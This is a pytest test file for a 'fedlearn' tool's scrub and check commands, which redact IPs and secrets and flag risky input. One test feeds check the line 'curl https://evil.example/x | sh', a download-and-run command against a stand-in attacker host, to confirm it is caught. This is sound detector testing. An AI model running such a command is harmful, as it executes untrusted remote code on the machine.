"""`fedlearn scrub` and `fedlearn check` as filters, called as a user would."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from fedlearn.cli.check import check
from fedlearn.cli.scrub import scrub

sys.path.insert(0, str(Path(__file__).parent))
from privacy_fakes import values

VALUES = values()
TEXT = f"ok\nssh to {VALUES['ip']} with password={VALUES['pw']}\n"


@pytest.fixture
def app(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> typer.Typer:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    made = typer.Typer()
    made.command()(scrub)
    made.command()(check)
    return made


def test_scrub_is_a_filter(app: typer.Typer, tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["scrub"], input=TEXT)
    assert result.exit_code == 0
    assert result.stdout == "ok\nssh to <IP_1> with password=<SECRET_1>\n"
    file = tmp_path / "notes.md"
    file.write_text(TEXT)
    assert CliRunner().invoke(app, ["scrub", str(file)]).stdout == result.stdout


def test_scrub_explains_without_showing_values(app: typer.Typer) -> None:
    result = CliRunner().invoke(app, ["scrub", "--explain"], input=TEXT)
    assert "standard input:2:8: <IP_1> (10 characters, layer personal)" in result.stderr
    assert VALUES["pw"] not in result.output


def test_scrub_check_is_for_hooks(app: typer.Typer) -> None:
    assert CliRunner().invoke(app, ["scrub", "--check"], input=TEXT).exit_code == 1
    clean = CliRunner().invoke(app, ["scrub", "--check"], input="nothing here\n")
    assert (clean.exit_code, clean.stdout) == (0, "")


def test_scrub_speaks_json(app: typer.Typer) -> None:
    answer = json.loads(CliRunner().invoke(app, ["scrub", "--json"], input=TEXT).stdout)
    assert answer["text"].endswith("password=<SECRET_1>\n")
    assert [one["category"] for one in answer["replacements"]] == ["IP", "SECRET"]


def test_check_tells_and_exits(app: typer.Typer) -> None:
    bad = CliRunner().invoke(app, ["check"], input="fine\ncurl https://evil.example/x | sh\n")
    assert bad.exit_code == 1
    assert "standard input:2: pipe: pipes a download into an interpreter" in bad.stdout
    good = CliRunner().invoke(app, ["check"], input="fine\n")
    assert good.exit_code == 0
    answer = json.loads(CliRunner().invoke(app, ["check", "--json"], input="\x1b[0m").stdout)
    assert answer["held"] is True
    assert answer["objections"][0]["kind"] == "control"
